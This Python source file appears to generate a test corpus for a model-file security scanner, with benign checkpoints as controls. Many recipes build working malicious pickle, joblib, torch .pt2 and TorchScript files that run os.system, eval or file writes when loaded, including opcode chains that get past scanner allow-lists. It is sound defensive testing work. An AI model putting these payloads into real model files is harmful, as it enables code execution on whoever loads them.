    "a torch checkpoint carrying a numpy object array (numpy pickles inside torch's)",
    "torch",
    ".pt",
)
def _(ctx: Ctx) -> None:
    _write(ctx, _torch_bytes({"state_dict": _model_state(), "stats": _np_object_array(ctx)}))


@_recipe(
    "ms-issue85-numpy-build-setattr",
    NP,
    "modelscan issue #85: BUILD sets attributes on a numpy function, names come back "
    "through GLOBAL",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        b"".join(
            [
                P4,
                _g("numpy", "prod"),
                pickle.NONE,
                MARK,
                _v("a"),
                _v("os"),
                pickle.DICT,
                T2,
                pickle.BUILD,
                pickle.NONE,
                MARK,
                _v("b"),
                _v("system"),
                pickle.DICT,
                T2,
                pickle.BUILD,
                POP,
                _g("numpy", "prod.a"),
                pickle.PUT + b"0\n",
                _g("numpy", "prod.b"),
                pickle.PUT + b"1\n",
                POP,
                POP,
                pickle.GET + b"0\n",
                pickle.GET + b"1\n",
                pickle.STACK_GLOBAL,
                _v(ctx.sh),
                T1,
                R,
                STOP,
            ]
        ),
    )


@_recipe(
    "ms-issue330-numpy-builtins",
    NP,
    "modelscan issue #330: numpy.__builtins__ reached through an allowed module",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        b"".join(
            [
                P4,
                _sg("numpy", "size"),
                MEMO,
                MEMO,
                _sg("numpy", "__builtins__"),
                MEMO,
                MEMO,
                _bget(1),
                pickle.EMPTY_DICT,
                pickle.EMPTY_DICT,
                _u("shape"),
                _bget(3),
                pickle.SETITEM,
                T2,
                pickle.BUILD,
                _bget(1),
                _bget(1),
                _u("eval"),
                T2,
                R,
                _u(ctx.py),
                T1,
                R,
                STOP,
            ]
        ),
    )


# ------------------------------------------------------------------------------------------
# joblib (raw and compressed)

JL = "joblib numpy_pickle (NumpyPickler/NumpyUnpickler, compressor wrappers)"


def _joblib(ctx: Ctx, obj: Any, compress: Any = 0) -> None:
    import joblib

    joblib.dump(obj, ctx.path, compress=compress)


_add(
    "jl-raw",
    "joblib",
    JL + ": raw",
    "joblib",
    ".joblib",
    lambda c: _joblib(c, {"model": Call(os.system, c.sh)}),
    needs=("joblib",),
)
for _comp in (("zlib", 3), ("gzip", 3), ("bz2", 3), ("lzma", 3), ("xz", 3)):
    _add(
        f"jl-{_comp[0]}",
        "joblib",
        f"{JL}: compress={_comp!r}",
        "joblib",
        ".joblib",
        lambda c, k=_comp: _joblib(c, {"model": Call(os.system, c.sh)}, k),
        needs=("joblib",),
    )
_add(
    "jl-lz4",
    "joblib",
    f"{JL}: compress=('lz4', 3)",
    "joblib",
    ".joblib",
    lambda c: _joblib(c, Call(os.system, c.sh), ("lz4", 3)),
    needs=("joblib", "lz4"),
)
_add(
    "jl-numeric-arrays-plus-payload",
    "joblib",
    f"{JL}: numeric arrays (written after the pickle) beside a payload",
    "joblib",
    ".pkl",
    lambda c: _joblib(
        c,
        {
            "coef": _np_zeros(),
            "intercept": _np_zeros(),
            "post": Call(subprocess.call, ["touch", c.marker]),
        },
    ),
    needs=("joblib",),
)
_add(
    "jl-object-array",
    "joblib",
    f"{JL}: an object array whose element is a payload",
    "joblib",
    ".joblib",
    lambda c: _joblib(c, _np_object_array(c)),
    needs=("joblib",),
)
_add(
    "jl-compressed-object-array",
    "joblib",
    f"{JL}: zlib, object array",
    "joblib",
    ".joblib.z",
    lambda c: _joblib(c, _np_object_array(c), 3),
    needs=("joblib",),
)


def _np_zeros() -> Any:
    import numpy as np

    return np.zeros((4, 4), dtype=np.float32)


# ------------------------------------------------------------------------------------------
# .pt2 (torch.export.save archives; loader: torch.export.load)

PT2 = "torch/export/pt2_archive/_package.py"
_BASE: dict[str, bytes] = {}


def _pt2_base() -> bytes:
    if "pt2" not in _BASE:
        import torch

        class Small(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.fc = torch.nn.Linear(4, 2)
                self.register_buffer("scale", torch.ones(2), persistent=False)

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return self.fc(x) * self.scale

        torch.manual_seed(0)
        ep = torch.export.export(Small(), (torch.randn(1, 4),))
        buf = io.BytesIO()
        torch.export.save(ep, buf)
        _BASE["pt2"] = buf.getvalue()
    return _BASE["pt2"]


def _pt2_members() -> list[tuple[str, bytes]]:
    return _members_of(_pt2_base())


def _pt2_edit(ctx: Ctx, edit: Callable[[list[tuple[str, bytes]]], list[tuple[str, bytes]]]) -> None:
    _write(ctx, _zip_bytes(edit(_pt2_members())))


def _pt2_sample_inputs(ctx: Ctx, data: bytes) -> None:
    _pt2_edit(ctx, lambda ms: _replace(ms, "data/sample_inputs/model.pt", lambda d: data))


def _sample_inputs_obj(ctx: Ctx) -> Any:
    import torch

    return ((torch.randn(1, 4), Call(os.system, ctx.sh)), {})


_add(
    "pt2-sample-inputs-payload",
    "pt2",
    "torch/_export/serde/serialize.py deserialize_torch_artifact: sample inputs that fail "
    "weights_only=True are reloaded with weights_only=False",
    "torch.export",
    ".pt2",
    lambda c: _pt2_sample_inputs(c, _torch_bytes(_sample_inputs_obj(c))),
)
_add(
    "pt2-sample-inputs-legacy",
    "pt2",
    "sample inputs as a legacy torch.save with a payload",
    "torch.export",
    ".pt2",
    lambda c: _pt2_sample_inputs(c, _legacy(_sample_inputs_obj(c))),
)
_add(
    "pt2-sample-inputs-raw-pickle",
    "pt2",
    "sample inputs as a bare pickle (torch.load reads it as a legacy file: the first pickle runs)",
    "torch.export",
    ".pt2",
    lambda c: _pt2_sample_inputs(c, _dump(Call(os.system, c.sh), 2)),
)


def _frame_sample_inputs(ctx: Ctx) -> bytes:
    import torch

    members = _members_of(_torch_bytes(((torch.randn(1, 4),), {})))
    return _zip_bytes(
        _replace(members, "data.pkl", lambda d: frame_trick(_system(ctx), _body(d), P2))
    )


_add(
    "pt2-sample-inputs-frame-boundary",
    "pt2",
    "fickling frame-boundary trick in a .pt2's sample inputs (issue 12's second miss)",
    "torch.export",
    ".pt2",
    lambda c: _pt2_sample_inputs(c, _frame_sample_inputs(c)),
)


def _pt2_config(
    ms: list[tuple[str, bytes]], config: str, key: str, path_name: str, use_pickle: bool = True
) -> list[tuple[str, bytes]]:
    import json

    out = []
    for n, d in ms:
        if n.endswith(config):
            cfg = json.loads(d)
            cfg["config"][key]["use_pickle"] = use_pickle
            cfg["config"][key]["path_name"] = path_name
            d = json.dumps(cfg).encode()
        out.append((n, d))
    return out


def _pt2_pickled_weight(ctx: Ctx) -> None:
    import torch

    def edit(ms: list[tuple[str, bytes]]) -> list[tuple[str, bytes]]:
        ms = _pt2_config(ms, "model_weights_config.json", "fc.weight", "weight_0")
        torch.manual_seed(0)
        return _replace(
            ms,
            "data/weights/weight_0",
            lambda d: _torch_bytes([torch.randn(2, 4), Call(os.system, ctx.sh)]),
        )

    _pt2_edit(ctx, edit)


_add(
    "pt2-weight-use-pickle",
    "pt2",
    f"{PT2} _load_state_dict: a weight with use_pickle is torch.load(weights_only=False)",
    "torch.export",
    ".pt2",
    _pt2_pickled_weight,
)


def _pt2_pickled_constant(ctx: Ctx) -> None:
    def edit(ms: list[tuple[str, bytes]]) -> list[tuple[str, bytes]]:
        ms = _pt2_config(ms, "model_constants_config.json", "scale", "tensor_0")
        return _replace(ms, "data/constants/tensor_0", lambda d: _mal_zip(ctx))

    _pt2_edit(ctx, edit)


_add(
    "pt2-constant-use-pickle",
    "pt2",
    f"{PT2} _load_constants: a tensor constant with use_pickle is torch.load(weights_only=False)",
    "torch.export",
    ".pt2",
    _pt2_pickled_constant,
)


def _pt2_opaque_constant(ctx: Ctx) -> None:
    from torch.export.pt2_archive import constants as k

    name = k.OPAQUE_OBJ_FILENAME_PREFIX + "0"

    def edit(ms: list[tuple[str, bytes]]) -> list[tuple[str, bytes]]:
        ms = _pt2_config(ms, "model_constants_config.json", "scale", name, use_pickle=True)
        folder = next(n for n, _ in ms if n.endswith("data/constants/tensor_0"))[: -len("tensor_0")]
        return [*ms, (folder + name, _dump(Call(os.system, ctx.sh)))]

    _pt2_edit(ctx, edit)


_add(
    "pt2-opaque-object-constant",
    "pt2",
    f"{PT2} _load_constants: an opaque-object constant is pickle.loads",
    "torch.export",
    ".pt2",
    _pt2_opaque_constant,
)


# ------------------------------------------------------------------------------------------
# TorchScript __setstate__ hooks (loader: torch.jit.load)

TS = "TorchScript __setstate__ runs at torch.jit.load"


def _neutral(cls: Any, module: str = "mymodels") -> Any:
    """TorchScript files a class's code under ``code/__torch__/<its module>.py``: name it as a
    user's module would be named, not after this file (whose name holds "pickle")."""
    cls.__module__ = module
    return cls


def _torchscript_setstate_bytes(marker: str, variant: str = "direct") -> bytes:
    import torch

    if variant == "direct":

        class Hook(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.w = torch.nn.Parameter(torch.zeros(2))
                self.path = marker

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return x + self.w

            @torch.jit.export
            def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
                return (self.w, self.path, self.training)

            @torch.jit.export
            def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
                self.w = state[0]
                self.path = state[1]
                self.training = state[2]
                torch.save(self.w, self.path)

        mod: Any = _neutral(Hook)()
    elif variant == "submodule":

        class Inner(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.b = torch.zeros(2)
                self.where = marker

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return x + self.b

            @torch.jit.export
            def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
                return (self.b, self.where, self.training)

            @torch.jit.export
            def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
                self.b = state[0]
                self.where = state[1]
                self.training = state[2]
                torch.save([self.b], self.where)

        class Outer(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.fc = torch.nn.Linear(2, 2)
                self.inner = Inner()

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return self.inner(self.fc(x))

        _neutral(Inner)
        mod = _neutral(Outer)()
    else:  # "built-path": the path is assembled at load time

        class Built(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.w = torch.zeros(2)
                self.parts = [os.path.dirname(marker), os.path.basename(marker)]

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return x * self.w

            @torch.jit.export
            def __getstate__(self) -> tuple[torch.Tensor, list[str], bool]:
                return (self.w, self.parts, self.training)

            @torch.jit.export
            def __setstate__(self, state: tuple[torch.Tensor, list[str], bool]) -> None:
                self.w = state[0]
                self.parts = state[1]
                self.training = state[2]
                torch.save(self.w, self.parts[0] + "/" + self.parts[1])

        mod = _neutral(Built)()
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(mod), buf)
    if os.path.exists(marker):  # scripting ran __setstate__ here: not a proof of anything
        os.remove(marker)
    return buf.getvalue()


for _variant in ("direct", "submodule", "built-path"):
    _add(
        f"ts-setstate-{_variant}",
        "torchscript",
        f"{TS} (torch.save in __setstate__, {_variant})",
        "torch.jit",
        ".pt",
        lambda c, v=_variant: _write(c, _torchscript_setstate_bytes(c.marker, v)),
    )


# ------------------------------------------------------------------------------------------
# Benign checkpoints of every shape real projects commit

BN = "benign"


def _benign(
    name: str, source: str, loader: str, suffix: str, make: Callable[[Ctx], None], **kw: Any
) -> None:
    _add(name, BN, source, loader, suffix, make, benign=True, **kw)


def _save(ctx: Ctx, obj: Any, **kw: Any) -> None:
    import torch

    torch.save(obj, ctx.path, **kw)


def _optimizer_and_scheduler() -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
    import torch

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    opt = torch.optim.AdamW(net.parameters(), lr=1e-3)
    net(torch.randn(3, 4)).sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=10)
    sched.step()
    return net.state_dict(), opt.state_dict(), sched.state_dict()


_benign(
    "bn-state-dict-zip",
    "torch.save(model.state_dict())",
    "torch",
    ".pt",
    lambda c: _save(c, _model_state()),
)
_benign(
    "bn-state-dict-legacy",
    "torch.save(..., _use_new_zipfile_serialization=False)",
    "torch",
    ".pt",
    lambda c: _save(c, _model_state(), _use_new_zipfile_serialization=False),
)
_benign(
    "bn-hf-pytorch-model-bin",
    "Hugging Face pytorch_model.bin (a state dict zip)",
    "torch",
    ".bin",
    lambda c: _save(c, _model_state()),
)


@_recipe(
    "bn-lightning-checkpoint",
    BN,
    "PyTorch Lightning ModelCheckpoint layout (epoch, "
    "global_step, optimizer_states, lr_schedulers, callbacks, hyper_parameters)",
    "torch",
    ".ckpt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    sd, opt, sched = _optimizer_and_scheduler()
    import torch

    _save(
        ctx,
        {
            "epoch": 4,
            "global_step": 1200,
            "pytorch-lightning_version": "2.4.0",
            "state_dict": sd,
            "loops": {
                "fit_loop": {
                    "state_dict": {},
                    "epoch_progress": {"total": {"ready": 5, "completed": 4}},
                }
            },
            "callbacks": {
                "ModelCheckpoint{'monitor': 'val_loss', 'mode': 'min'}": {
                    "monitor": "val_loss",
                    "best_model_score": torch.tensor(0.25),
                    "best_model_path": "/ckpt/epoch=3.ckpt",
                    "current_score": torch.tensor(0.3),
                    "dirpath": "/ckpt",
                    "best_k_models": {"/ckpt/epoch=3.ckpt": torch.tensor(0.25)},
                },
                "EarlyStopping{'monitor': 'val_loss', 'mode': 'min'}": {
                    "wait_count": 1,
                    "stopped_epoch": 0,
                    "best_score": torch.tensor(0.25),
                    "patience": 3,
                },
            },
            "optimizer_states": [opt],
            "lr_schedulers": [sched],
            "hparams_name": "kwargs",
            "hyper_parameters": {"lr": 1e-3, "hidden": 8, "layers": [4, 8, 2], "name": "mlp"},
        },
    )


@_recipe(
    "bn-lightning-namespace-hparams",
    BN,
    "Lightning checkpoint whose hyper_parameters is an argparse.Namespace",
    "torch",
    ".ckpt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import argparse

    sd, opt, sched = _optimizer_and_scheduler()
    _save(
        ctx,
        {
            "epoch": 1,
            "global_step": 10,
            "pytorch-lightning_version": "1.9.5",
            "state_dict": sd,
            "optimizer_states": [opt],
            "lr_schedulers": [sched],
            "hparams_name": "hparams",
            "hyper_parameters": argparse.Namespace(lr=0.01, batch_size=32, data="/data"),
        },
    )


@_recipe(
    "bn-hf-trainer-rng-state",
    BN,
    "Hugging Face Trainer rng_state.pth (python, numpy, cpu)",
    "torch",
    ".pth",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import random

    import numpy as np
    import torch

    random.seed(0)
    np.random.seed(0)
    _save(
        ctx,
        {
            "python": random.getstate(),
            "numpy": np.random.get_state(),
            "cpu": torch.random.get_rng_state(),
        },
    )


@_recipe(
    "bn-hf-trainer-optimizer-scheduler",
    BN,
    "Hugging Face Trainer optimizer.pt + scheduler.pt contents",
    "torch",
    ".pt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    _, opt, sched = _optimizer_and_scheduler()
    _save(ctx, {"optimizer": opt, "scheduler": sched})


@_recipe(
    "bn-hf-training-args",
    BN,
    "Hugging Face Trainer training_args.bin (torch.save(TrainingArguments): NEWOBJ of the "
    "dataclass, BUILD of its fields)",
    "torch",
    ".bin",
    benign=True,
    needs=("transformers",),
)
def _(ctx: Ctx) -> None:
    import dataclasses

    from transformers import TrainingArguments

    try:  # __post_init__ needs accelerate; without it, the same instance built field by field
        args: Any = TrainingArguments(output_dir=os.path.join(ctx.aux, "out"), report_to=[])
    except ImportError:
        args = object.__new__(TrainingArguments)
        for f in dataclasses.fields(TrainingArguments):
            has_factory = f.default_factory is not dataclasses.MISSING
            setattr(args, f.name, f.default_factory() if has_factory else f.default)
        args.output_dir = os.path.join(ctx.aux, "out")
    _save(ctx, args)


@_recipe(
    "bn-fairseq-namespace-args",
    BN,
    "fairseq checkpoint: args as argparse.Namespace, optimizer_history, extra_state",
    "torch",
    ".pt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import argparse

    sd, opt, _ = _optimizer_and_scheduler()
    _save(
        ctx,
        {
            "args": argparse.Namespace(
                arch="transformer",
                lr=[0.0005],
                max_tokens=4096,
                optimizer="adam",
                adam_betas="(0.9, 0.98)",
            ),
            "model": sd,
            "optimizer_history": [
                {
                    "criterion_name": "CrossEntropyCriterion",
                    "optimizer_name": "FairseqAdam",
                    "lr_scheduler_state": {"best": 3.2},
                    "num_updates": 500,
                }
            ],
            "extra_state": {"epoch": 2, "val_loss": 3.2, "train_iterator": {"epoch": 2}},
            "last_optimizer_state": opt,
        },
    )


@_recipe(
    "bn-timm-ema",
    BN,
    "timm train.py checkpoint (state_dict, state_dict_ema, args, metric)",
    "torch",
    ".pth.tar",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import argparse

    sd, opt, _ = _optimizer_and_scheduler()
    _save(
        ctx,
        {
            "epoch": 9,
            "arch": "resnet18",
            "state_dict": sd,
            "state_dict_ema": {k: v.clone() for k, v in sd.items()},
            "optimizer": opt,
            "version": 2,
            "args": argparse.Namespace(model="resnet18", lr=0.1, epochs=10),
            "metric": 71.3,
        },
    )


@_recipe(
    "bn-datetime",
    BN,
    "checkpoint metadata with datetime, date and timedelta",
    "torch",
    ".pt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import datetime as dt

    _save(
        ctx,
        {
            "state_dict": _model_state(),
            "saved_at": dt.datetime(2024, 5, 1, 12, 30),
            "date": dt.date(2024, 5, 1),
            "elapsed": dt.timedelta(hours=3),
        },
    )


@_recipe(
    "bn-pathlib",
    BN,
    "checkpoint recording data paths as pathlib paths",
    "torch",
    ".pt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import pathlib

    _save(
        ctx,
        {
            "state_dict": _model_state(),
            "data_dir": pathlib.Path("/data/train"),
            "paths": [pathlib.PurePosixPath("a/b.txt")],
        },
    )


@_recipe(
    "bn-omegaconf",
    BN,
    "Hydra/NeMo-style checkpoint with an omegaconf DictConfig",
    "torch",
    ".ckpt",
    benign=True,
    needs=("omegaconf",),
)
def _(ctx: Ctx) -> None:
    from omegaconf import OmegaConf

    cfg = OmegaConf.create({"model": {"hidden": 8, "layers": [4, 8, 2]}, "optim": {"lr": 1e-3}})
    _save(ctx, {"state_dict": _model_state(), "cfg": cfg})


@_recipe(
    "bn-defaultdict",
    BN,
    "non-empty collections.defaultdict beside tensors",
    "torch",
    ".pt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    from collections import Counter, OrderedDict, defaultdict

    counts: defaultdict[str, int] = defaultdict(int, {"cat": 3, "dog": 5})
    lists: defaultdict[str, list[int]] = defaultdict(list, {"a": [1, 2]})
    _save(
        ctx,
        {
            "state_dict": _model_state(),
            "counts": counts,
            "lists": lists,
            "vocab": Counter({"the": 10}),
            "order": OrderedDict(a=1),
        },
    )


@_recipe(
    "bn-sets-bytes", BN, "sets, frozensets and bytes beside tensors", "torch", ".pt", benign=True
)
def _(ctx: Ctx) -> None:
    _save(
        ctx,
        {
            "state_dict": _model_state(),
            "classes": {"cat", "dog"},
            "frozen": frozenset({1, 2}),
            "blob": b"\x00\x01binary",
            "ba": bytearray(b"xy"),
        },
    )


@_recipe(
    "bn-tensors-in-list-tuple",
    BN,
    "tensors inside lists and tuples (no dict at the top)",
    "torch",
    ".pt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import torch

    _save(
        ctx,
        [
            torch.randn(3, 3),
            (torch.zeros(2), torch.ones(2, dtype=torch.int64)),
            {"nested": [torch.arange(4)]},
        ],
    )


@_recipe("bn-sparse-tensors", BN, "sparse COO and CSR tensors", "torch", ".pt", benign=True)
def _(ctx: Ctx) -> None:
    import torch

    dense = torch.tensor([[0.0, 1.0], [2.0, 0.0]])
    _save(ctx, {"coo": dense.to_sparse(), "csr": dense.to_sparse_csr(), "w": dense})


@_recipe(
    "bn-quantized-tensors",
    BN,
    "per-tensor and per-channel quantized tensors",
    "torch",
    ".pt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import torch

    x = torch.randn(4, 4)
    _save(
        ctx,
        {
            "q": torch.quantize_per_tensor(x, 0.1, 0, torch.qint8),
            "qc": torch.quantize_per_channel(
                x, torch.full((4,), 0.1), torch.zeros(4, dtype=torch.int64), 0, torch.qint8
            ),
        },
    )


@_recipe(
    "bn-dtypes-devices-sizes",
    BN,
    "torch.dtype, torch.device, torch.Size, bf16/half/int8",
    "torch",
    ".pt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import torch

    _save(
        ctx,
        {
            "dtype": torch.float16,
            "device": torch.device("cpu"),
            "shape": torch.Size([2, 3]),
            "bf16": torch.ones(2, dtype=torch.bfloat16),
            "half": torch.ones(2).half(),
            "i8": torch.ones(2, dtype=torch.int8),
            "view": torch.arange(6)[2:],
        },
    )


@_recipe(
    "bn-numpy-scalars",
    BN,
    "numpy scalars and a numeric array in a torch checkpoint",
    "torch",
    ".pt",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import numpy as np

    _save(
        ctx,
        {
            "state_dict": _model_state(),
            "best_metric": np.float64(0.91),
            "steps": np.int64(10),
            "hist": np.arange(5, dtype=np.float32),
        },
    )


_benign(
    "bn-protocol4",
    "torch.save(pickle_protocol=4)",
    "torch",
    ".pt",
    lambda c: _save(c, {"state_dict": _model_state(), "epoch": 1}, pickle_protocol=4),
)


@_recipe("bn-npy-numeric", BN, "numpy.save of a float32 array", "numpy", ".npy", benign=True)
def _(ctx: Ctx) -> None:
    import numpy as np

    np.save(ctx.path, np.arange(12, dtype=np.float32).reshape(3, 4))


@_recipe(
    "bn-npy-fortran", BN, "numpy.save of a Fortran-ordered int array", "numpy", ".npy", benign=True
)
def _(ctx: Ctx) -> None:
    import numpy as np

    np.save(ctx.path, np.asfortranarray(np.arange(6, dtype=np.int64).reshape(2, 3)))


@_recipe("bn-npz-numeric", BN, "numpy.savez of numeric arrays", "numpy", ".npz", benign=True)
def _(ctx: Ctx) -> None:
    import numpy as np

    np.savez(ctx.path, w=np.ones((2, 2), np.float32), b=np.zeros(2, np.float64))


@_recipe(
    "bn-npz-compressed",
    BN,
    "numpy.savez_compressed of numeric arrays",
    "numpy",
    ".npz",
    benign=True,
)
def _(ctx: Ctx) -> None:
    import numpy as np

    np.savez_compressed(ctx.path, emb=np.random.default_rng(0).random((8, 4)).astype(np.float16))


_benign(
    "bn-joblib-numeric",
    "joblib.dump of numeric arrays",
    "joblib",
    ".joblib",
    lambda c: _joblib(c, {"coef": _np_zeros(), "classes": _np_zeros()}),
    needs=("joblib",),
)
_benign(
    "bn-joblib-compressed-numeric",
    "joblib.dump(compress=3) of numeric arrays",
    "joblib",
    ".joblib",
    lambda c: _joblib(c, [_np_zeros(), _np_zeros()], 3),
    needs=("joblib",),
)


@_recipe(
    "bn-safetensors",
    BN,
    "safetensors.torch.save_file",
    "safetensors",
    ".safetensors",
    benign=True,
    needs=("safetensors",),
)
def _(ctx: Ctx) -> None:
    from safetensors.torch import save_file

    save_file({k: v.contiguous() for k, v in _model_state().items()}, ctx.path)


@_recipe("bn-torchscript", BN, "torch.jit.script(model).save", "torch.jit", ".pt", benign=True)
def _(ctx: Ctx) -> None:
    import torch

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    torch.jit.script(net).save(ctx.path)


def _tensor_setstate_script(ctx: Ctx, module: str) -> None:
    import torch

    class Norm(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.w = torch.ones(3)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * self.w

        @torch.jit.export
        def __getstate__(self) -> tuple[torch.Tensor, bool]:
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
            self.w = state[0].clamp(min=0.0)
            self.training = state[1]

    torch.jit.script(_neutral(Norm, module)()).save(ctx.path)


_benign(
    "bn-torchscript-tensor-setstate",
    "TorchScript whose __setstate__ only does tensor work (class in module mymodels)",
    "torch.jit",
    ".pt",
    lambda c: _tensor_setstate_script(c, "mymodels"),
)
_benign(
    "bn-torchscript-module-named-pickle",
    "the same TorchScript, its class in a user module models/pickle_utils.py (TorchScript "
    "stores the code as code/__torch__/models/pickle_utils.py)",
    "torch.jit",
    ".pt",
    lambda c: _tensor_setstate_script(c, "models.pickle_utils"),
)


@_recipe("bn-pt2", BN, "torch.export.save of a small model", "torch.export", ".pt2", benign=True)
def _(ctx: Ctx) -> None:
    _write(ctx, _pt2_base())


# ------------------------------------------------------------------------------------------
# The sample tests/test_pickle_corpus.py runs: a few recipes per family, and benign files.

SAMPLE = frozenset(
    [
        "ps-malicious1-eval-v4",
        "stdlib-subprocess-popen",
        "stdlib-functools-partial",
        "ps-malicious10-inst-exec",
        "ps-malicious11-memo-stack-global",
        "ps-GHSA-46h3-operator-attrgetter",
        "fk-GHSA-565g-marshal-functiontype",
        "fk-GHSA-h4rm-builtins-import-getattr",
        "fk-frame-boundary-raw",
        "op-build-setstate-namespace",
        "op-copyreg-extension",
        "np-object-array-npy",
        "np-object-arrays-npz",
        "jl-raw",
        "jl-zlib",
        "zip-duplicate-data-pkl-first",
        "zip-frame-boundary-data-pkl",
        "ms-pickleinject-system-zip",
        "legacy-state-dict-payload",
        "tar-payload-in-pickle",
        "tg-torch-hub-load-local",
        "pt2-sample-inputs-frame-boundary",
        "ts-setstate-direct",
        "bn-state-dict-zip",
        "bn-lightning-checkpoint",
        "bn-lightning-namespace-hparams",
        "bn-hf-trainer-rng-state",
        "bn-fairseq-namespace-args",
        "bn-datetime",
        "bn-defaultdict",
        "bn-sets-bytes",
        "bn-tensors-in-list-tuple",
        "bn-sparse-tensors",
        "bn-npy-numeric",
        "bn-npz-numeric",
        "bn-joblib-numeric",
        "bn-torchscript",
        "bn-pt2",
    ]
)


def sample() -> list[Recipe]:
    """The recipes of :data:`SAMPLE`, in table order."""
    known = {r.name for r in all_recipes()}
    unknown = SAMPLE - known
    if unknown:
        raise ValueError(f"SAMPLE names unknown recipes: {sorted(unknown)}")
    return [r for r in all_recipes() if r.name in SAMPLE]


def prove_benign_batch(
    items: list[tuple[Recipe, Ctx]],
    python: str = sys.executable,
    timeout: float = 300,
    env: dict[str, str] | None = None,
) -> dict[str, Proof]:
    """Load benign files in one child (they run nothing, so they need no process each), each
    with its own loader; each file's load is reported on its own line."""
    if any(r.malicious for r, _ in items):
        raise ValueError("benign recipes only")
    lines_of_code = ["import sys", "def load(kind, p):"]
    for n, kind in enumerate(sorted({r.loader for r, _ in items})):
        body = LOADERS[kind].replace("\n", "\n        ")
        lines_of_code.append(f"    {'if' if n == 0 else 'elif'} kind == {kind!r}:\n        {body}")
    lines_of_code += [
        "for kind, p in zip(sys.argv[1::2], sys.argv[2::2]):",
        "    try:",
        "        load(kind, p)",
        "        print('OK', p, flush=True)",
        "    except Exception as exc:",
        "        why = f'{type(exc).__name__}: {exc}'[:150].replace(chr(10), ' ')",
        "        print('FAIL', p, why, flush=True)",
    ]
    args = [a for r, c in items for a in (r.loader, c.path)]
    started = time.monotonic()
    try:
        done = subprocess.run(
            [python, "-c", "\n".join(lines_of_code), *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=timeout,
            stdin=subprocess.DEVNULL,
            errors="replace",
        )
        lines, rc = done.stdout.splitlines(), done.returncode
    except subprocess.TimeoutExpired:
        lines, rc = [], None
    seconds = time.monotonic() - started
    out: dict[str, Proof] = {}
    for recipe, ctx in items:
        line = next((ln for ln in lines if ln.split(" ", 2)[1:2] == [ctx.path]), "")
        out[recipe.name] = Proof(
            line.startswith("OK "), rc, line[:200] or "no result (the loader died)", seconds
        )
    return out
